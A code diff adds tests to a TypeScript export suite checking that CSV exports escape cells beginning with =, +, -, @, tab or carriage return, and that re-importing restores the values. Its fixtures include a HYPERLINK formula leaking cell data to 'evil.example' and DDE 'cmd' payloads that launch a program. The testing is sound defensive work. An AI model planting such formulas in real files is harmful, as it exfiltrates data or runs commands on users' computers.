@@ -10,7 +10,8 @@ import type { Item, ItemPage } from '../../shared/schemas/items';
 import type { ImportPlanInput, ImportRun } from '../../shared/schemas/imports';
 import { vitrineHead, type ExportHead, type ExportedItem } from '../../shared/import/vitrine';
 import type { Property } from '../../shared/schemas/properties';
-import { finishedImport } from '../support/worker-imports';
+import { readHead } from '../../shared/import/formats';
+import { finishedImport, itemsOf, runImport } from '../support/worker-imports';
 import { call, createUser, errorCode } from '../support/worker-app';
 import { addItem, addProperty, createCollection, getJson, seededPicture, uploadPicture } from '../support/worker-catalogue';
 import { addBorrower, lend, lendableItem, setLoansEnabled } from '../support/worker-lending';
@@ -225,6 +226,84 @@ describe('exports', { timeout: 60_000 }, () => {
     const res = await call(`/api/v1/collections/${c.id}/export?format=csv`, { token: owner.token, env: { DEMO_MODE: 'true' } });
     expect(res.status).toBe(200);
     expect(await res.text()).toContain('Good Omens');
+  });
+});
+
+const HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"x")';
+
+/** A public shelf whose texts begin like formulas, a number below zero, and a label that is a formula too. */
+async function formulaShelf() {
+  const owner = await createUser();
+  const c = await createCollection(owner.token, { name: 'Formulas', visibility: 0 });
+  await addProperty(owner.token, c.id, { label: 'Title', key: 'title', type: 'text', isTitle: true, sortable: true });
+  await addProperty(owner.token, c.id, { label: 'Tags', key: 'tags', type: 'text', multiple: true });
+  await addProperty(owner.token, c.id, { label: 'Temp', key: 'temp', type: 'number' });
+  await addProperty(owner.token, c.id, { label: 'Code', key: 'code', type: 'text' });
+  await addProperty(owner.token, c.id, { label: '=1+1', key: 'formula', type: 'text' });
+  await addItem(owner.token, c.id, { values: { title: HYPERLINK, tags: ['=a', 'b'], temp: -3, code: '-3' } });
+  await addItem(owner.token, c.id, { values: { title: '+1+2', code: "'=already quoted", formula: "'plain" } });
+  await addItem(owner.token, c.id, { values: { title: "-2+3+cmd|' /C calc'!A0", temp: -0.5, formula: '-1e3' } });
+  await addItem(owner.token, c.id, { values: { title: "@SUM(1+1)*cmd|' /C calc'!A0", code: 'a;=1+1' } });
+  return { owner, c };
+}
+
+const csvRows = (text: string) => Papa.parse<string[]>(text.replace(/^\ufeff/, ''), { skipEmptyLines: true }).data;
+
+describe('CSV exports are formula-safe', { timeout: 60_000 }, () => {
+  it("a text cell beginning with =, +, -, @, tab or CR gets a ' and quotes; numbers stay numbers", async () => {
+    const { owner, c } = await formulaShelf();
+    // Text is trimmed when saved: cells beginning with a tab or a carriage return are written in the database.
+    for (const [title, start] of [['Tab', '\t'], ['CR', '\r']]) {
+      const item = await addItem(owner.token, c.id, { values: { title } });
+      const titleId = (await env.DB.prepare("SELECT id FROM properties WHERE collection_id = ?1 AND key = 'title'").bind(c.id).first<{ id: number }>())!.id;
+      await env.DB.prepare(`UPDATE items SET data = json_set(data, '$."' || ?2 || '"', ?3) WHERE id = ?1`).bind(item.id, String(titleId), `${start}=1+1`).run();
+    }
+    // A visitor's download of the public collection, and the owner's.
+    for (const token of [undefined, owner.token]) {
+      const text = await (await exported(c.id, 'csv', token)).text();
+      const lines = text.replace(/^\ufeff/, '').split('\r\n');
+      expect(lines[0]).toBe(`Title,Tags,Temp,Code,"'=1+1"`);
+      expect(lines).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""x"")","'=a; b",-3,-3,`);
+      const rows = csvRows(text);
+      expect(rows.slice(1)).toEqual([
+        [`'${HYPERLINK}`, "'=a; b", '-3', '-3', ''],
+        ["'+1+2", '', '', "''=already quoted", "'plain"],
+        ["'-2+3+cmd|' /C calc'!A0", '', '-0.5', '', "'-1e3"],
+        ["'@SUM(1+1)*cmd|' /C calc'!A0", '', '', 'a;=1+1', ''],
+        ["'\t=1+1", '', '', '', ''],
+        ["'\r=1+1", '', '', '', ''],
+      ]);
+      // No cell a spreadsheet would evaluate: only plain numbers begin with a minus.
+      for (const cell of rows.flat()) if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^-\d+(\.\d+)?$/);
+      // A cell holding a separator some spreadsheets split on (;) is quoted, so its =1+1 stays inside it.
+      expect(lines.some((line) => line.includes(',"a;=1+1",'))).toBe(true);
+    }
+  });
+
+  it("imports back into the same values: the import takes off the ' the export added, and only it", async () => {
+    const { owner, c } = await formulaShelf();
+    const text = await (await exported(c.id, 'csv', owner.token)).text();
+    const csv = { delimiter: ',', quote: '"', header: true } as const;
+    expect(readHead('csv', text.replace(/^\ufeff/, ''), csv).fields.map((f) => f.label)).toEqual(['Title', 'Tags', 'Temp', 'Code', '=1+1']);
+    const copy = await createCollection(owner.token, { name: 'Copy' });
+    const plan: ImportPlanInput = {
+      format: 'csv',
+      csv,
+      fields: [
+        { field: 'c0', property: 'title', create: { label: 'Title', type: 'text', multiple: false, title: true } },
+        { field: 'c1', property: 'tags', split: '; ', create: { label: 'Tags', type: 'text', multiple: true } },
+        { field: 'c2', property: 'temp', create: { label: 'Temp', type: 'number', multiple: false } },
+        { field: 'c3', property: 'code', create: { label: 'Code', type: 'text', multiple: false } },
+        { field: 'c4', property: 'formula', create: { label: '=1+1', type: 'text', multiple: false } },
+      ],
+    };
+    const report = await runImport(owner.token, copy.id, text, 'formulas.csv', plan);
+    expect(report).toMatchObject({ status: 'done', counts: { added: 4, failed: 0 } });
+    const values = async (collectionId: number) =>
+      (await itemsOf(owner.token, collectionId, null)).map((i) => i.values).sort((a, b) => String(a.title).localeCompare(String(b.title)));
+    const original = await values(c.id);
+    expect(original.map((v) => v.title)).toContain(HYPERLINK);
+    expect(await values(copy.id)).toEqual(original);
   });
 });
 
